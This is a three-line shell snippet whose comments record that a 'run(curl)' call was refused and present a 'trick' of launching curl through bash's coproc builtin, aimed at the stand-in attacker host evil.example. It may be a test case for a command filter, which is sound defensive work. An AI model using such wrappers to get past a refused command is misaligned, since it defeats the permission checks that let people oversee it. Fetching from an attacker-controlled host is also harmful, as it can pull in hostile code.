# Trick: a coprocess runs the program.
# Refused: run(curl)
coproc curl http://evil.example/
